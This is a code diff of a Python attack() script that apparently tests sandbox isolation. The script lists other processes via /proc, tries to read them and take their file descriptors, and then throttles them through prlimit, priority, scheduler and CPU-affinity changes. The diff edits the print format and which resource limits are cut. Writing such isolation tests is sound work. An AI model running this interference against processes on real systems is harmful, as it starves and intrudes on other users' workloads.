@@ -10,7 +10,7 @@ def attack():
         raise SystemExit("only in the sandbox")
     others = [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
     done = [found for pid in others for found in [*read(pid), *take_descriptors(pid)]]
-    print("attack: of", len(others), "processes, got into", done or "nothing", flush=True)
+    print(f"attack: of {len(others)} processes, got into {done or 'nothing'}\n", end="", flush=True)
     for pid in others:
         weaken(pid)
 
@@ -48,9 +48,8 @@ def take_descriptors(pid):
 
 def weaken(pid):
     for change in (
-        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
-        lambda: resource.prlimit(pid, resource.RLIMIT_AS, (2**20, 2**20)),
         lambda: resource.prlimit(pid, resource.RLIMIT_NPROC, (0, 0)),
+        lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (0, 0)),
         lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
         lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
         lambda: os.sched_setaffinity(pid, {0}),
